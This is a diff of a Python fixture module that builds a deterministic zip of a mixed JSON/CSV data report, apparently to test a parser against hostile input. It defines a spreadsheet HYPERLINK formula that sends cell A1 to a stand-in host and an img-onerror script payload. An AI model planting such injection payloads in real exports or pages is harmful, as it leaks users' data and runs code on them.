@@ -1,6 +1,6 @@
-"""The zip of a Batch data report. Its layout is undocumented: this one mixes JSON and CSV.
+"""The zip of a Batch data report. Batch does not document its layout; this one mixes JSON and CSV.
 
-It holds what breaks a careless reader: text outside ASCII, a cell that a spreadsheet would run, markup.
+It contains values that break a careless reader: non-ASCII text, a spreadsheet formula and HTML.
 The same job always gives the same bytes.
 """
 
@@ -11,16 +11,15 @@ import io
 import json
 import zipfile
 
-from include.sandbox.book import Entry
+from include.sandbox.jobs import Job
 
 FORMULA = '=HYPERLINK("https://example.com/?leak="&A1,"open")'
 MARKUP = "<img src=x onerror=alert(1)>"
 _EPOCH = (2026, 1, 1, 0, 0, 0)
 
 
-def archive(entry: Entry) -> bytes:
-    """The data report of ``entry``."""
-    subject = entry.subjects[0]
+def archive(job: Job) -> bytes:
+    subject = job.subjects[0]
     profile = {
         subject.kind: subject.value,
         "language": "fr",
@@ -30,7 +29,7 @@ def archive(entry: Entry) -> bytes:
     }
     installs = [
         {
-            "install_id": f"{entry.account}-install-{n}",
+            "install_id": f"{job.account}-install-{n}",
             "os": "android",
             "first_seen": f"2025-0{n}-03T08:15:00",
         }
